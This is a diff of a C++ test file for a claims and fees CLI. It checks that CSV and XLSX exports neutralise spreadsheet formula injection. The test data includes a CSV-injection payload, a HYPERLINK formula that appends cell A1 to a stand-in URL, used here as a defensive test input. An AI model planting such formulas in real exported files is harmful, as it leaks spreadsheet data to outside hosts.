@@ -2,6 +2,7 @@
 
 #include "alerts/rules.h"
 #include "cli/options.h"
+#include "fees/feestatistics.h"
 #include "store/failure.h"
 
 #include <QCoreApplication>
@@ -353,48 +354,98 @@ TEST_F(CliTest, FlagWriteFailureSaysWhy) {
 
 struct FormulaCase {
     const char* name;
-    const char* field; // which claim field holds the text
+    const char* field; // which claim field holds the text, or "fee": the due amount of a payment
     QString text;
-    QString csv; // the CSV field written
+    QString csv;   // the CSV field written
+    char xlsxType; // how openpyxl reads the cell back: 's' a string, 'n' a number
 };
 
 const FormulaCase kFormulas[] = {
     {"EqualsInOwner", "owner", u"=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"_s,
-     u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\""_s},
-    {"MinusInPlate", "plate", u"-2+3"_s, u"'-2+3"_s},
-    {"AtInRemarks", "remarks", u"@x"_s, u"'@x"_s},
-    {"PlusInPhone", "phone", u"+86 138"_s, u"'+86 138"_s},
-    {"TabInRemarks", "remarks", u"\tcmd"_s, u"'\tcmd"_s},
-    {"CarriageReturnInRemarks", "remarks", u"\r=1+1"_s, u"\"'\r=1+1\""_s},
-    {"FormulaTypedAsAmount", "amount", u"=1+1"_s, u"'=1+1"_s},
-    {"NegativeAmountIsANumber", "amount", u"-50"_s, u"-50"_s},
-    {"PlainText", "remarks", u"已赔付"_s, u"已赔付"_s},
-    {"MinusInside", "remarks", u"a-b"_s, u"a-b"_s},
+     u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\""_s, 's'},
+    {"MinusInPlate", "plate", u"-2+3"_s, u"'-2+3"_s, 's'},
+    {"AtInRemarks", "remarks", u"@x"_s, u"'@x"_s, 's'},
+    {"PlusInPhone", "phone", u"+86 138"_s, u"'+86 138"_s, 's'},
+    {"TabInRemarks", "remarks", u"\tcmd"_s, u"'\tcmd"_s, 's'},
+    {"CarriageReturnInRemarks", "remarks", u"\r=1+1"_s, u"\"'\r=1+1\""_s, 's'},
+    {"FormulaTypedAsAmount", "amount", u"=1+1"_s, u"'=1+1"_s, 's'},
+    {"NegativeAmountIsANumber", "amount", u"-50"_s, u"-50"_s, 'n'},
+    {"PlainText", "remarks", u"已赔付"_s, u"已赔付"_s, 's'},
+    {"MinusInside", "remarks", u"a-b"_s, u"a-b"_s, 's'},
+    // Fee amounts read as numbers even with a sign or blanks around them; only the plain form
+    // goes out unguarded.
+    {"PlusInFee", "fee", u"+5"_s, u"'+5"_s, 's'},
+    {"TabInFee", "fee", u"\t5"_s, u"'\t5"_s, 's'},
+    {"FormulaInFee", "fee", u"=1+1"_s, u"'=1+1"_s, 's'},
+    {"NegativeFeeIsANumber", "fee", u"-5"_s, u"-5"_s, 'n'},
 };
+
+// The type openpyxl gives each cell whose value reads as text (a number in %g form; a carriage
+// return, which the workbook holds escaped and openpyxl leaves so, as itself).
+QStringList xlsxTypesOf(const QString& path, const QString& text) {
+    const QString script = uR"(
+import sys, openpyxl
+for row in openpyxl.load_workbook(sys.argv[1]).active.iter_rows():
+    for c in row:
+        v = c.value
+        if v is not None and (v.replace('_x000D_', '\r') if isinstance(v, str) else '%g' % v) == sys.argv[2]:
+            print(c.data_type)
+)"_s;
+    QProcess p;
+    p.start(u"/usr/bin/python3"_s, {u"-c"_s, script, path, text});
+    if (!p.waitForFinished(60000) || p.exitCode() != 0)
+        return {u"python3 failed: "_s + QString::fromUtf8(p.readAllStandardError())};
+    return QString::fromUtf8(p.readAllStandardOutput()).split(u'\n', Qt::SkipEmptyParts);
+}
 
 class FormulaTest : public CliTest, public testing::WithParamInterface<FormulaCase> {};
 
 TEST_P(FormulaTest, CsvNeutralisesFormulaStarts) {
     const FormulaCase& f = GetParam();
-    claims::Claim c = newClaim(u"2026-04-01"_s, u"京A009"_s, u"李四"_s, u"100"_s);
     const QString field = QString::fromLatin1(f.field);
-    (field == u"owner"_s    ? c.owner
-     : field == u"plate"_s  ? c.plate
-     : field == u"phone"_s  ? c.phone
-     : field == u"amount"_s ? c.amount
-                            : c.remarks) = f.text;
-    claim(c);
-    const Outcome o = run({u"claims"_s, u"--from"_s, u"2026-04-01"_s, u"--to"_s, u"2026-04-01"_s, u"--format"_s,
-                           u"csv"_s, u"--plate"_s, c.plate});
+    const QString day = u"2026-04-01"_s;
+    QString plate = u"京A009"_s;
+    QString command = u"claims"_s;
+    if (field == u"fee"_s) {
+        plate = u"京A12345"_s; // fees takes a whole plate
+        alerts_test::Fleet fleet(db());
+        fleet.vehicle(plate);
+        const fees::FeeKind& kind = fees::Kind(0);
+        fleet.row(plate, {{u"审车车号"_s, plate},
+                          {kind.dueColumn, f.text},
+                          {kind.paidColumn, u"1"_s},
+                          {kind.dateColumn, QDate(2026, 4, 1)}});
+        command = u"fees"_s;
+    } else {
+        claims::Claim c = newClaim(day, plate, u"李四"_s, u"100"_s);
+        (field == u"owner"_s    ? c.owner
+         : field == u"plate"_s  ? c.plate
+         : field == u"phone"_s  ? c.phone
+         : field == u"amount"_s ? c.amount
+                                : c.remarks) = f.text;
+        claim(c);
+        plate = c.plate;
+    }
+    const QStringList query = {command, u"--from"_s, day, u"--to"_s, day, u"--plate"_s, plate};
+    const Outcome o = run(query + QStringList{u"--format"_s, u"csv"_s});
     ASSERT_EQ(o.status, 0) << o.err.toStdString();
     const QStringList lines = o.out.split(u"\r\n"_s);
     ASSERT_GE(lines.size(), 2) << o.out.toStdString();
-    EXPECT_TRUE((u","_s + lines.at(1) + u","_s).contains(u","_s + f.csv + u","_s))
-        << lines.at(1).toStdString() << " / " << f.csv.toStdString();
+    bool found = false;
+    for (const QString& line : lines.mid(1))
+        found = found || (u","_s + line + u","_s).contains(u","_s + f.csv + u","_s);
+    EXPECT_TRUE(found) << o.out.toStdString() << " / " << f.csv.toStdString();
     // JSON keeps the text as it is.
-    const Outcome json =
-        run({u"claims"_s, u"--from"_s, u"2026-04-01"_s, u"--to"_s, u"2026-04-01"_s, u"--plate"_s, c.plate});
+    const Outcome json = run(query);
     EXPECT_FALSE(json.out.contains(u"\"'"_s)) << json.out.toStdString();
+    // A workbook holds the text as a string, never as a formula; a number as a number.
+    const QString book = QDir(dataDir()).filePath(u"formula.xlsx"_s);
+    const Outcome xlsx = run(query + QStringList{u"--format"_s, u"xlsx"_s, u"--output"_s, book});
+    ASSERT_EQ(xlsx.status, 0) << xlsx.err.toStdString();
+    const QStringList types = xlsxTypesOf(book, f.text);
+    ASSERT_FALSE(types.isEmpty()) << "the cell is missing";
+    for (const QString& type : types)
+        EXPECT_EQ(type, QString(QLatin1Char(f.xlsxType))) << f.text.toStdString();
 }
 
 INSTANTIATE_TEST_SUITE_P(Prefixes, FormulaTest, testing::ValuesIn(kFormulas),
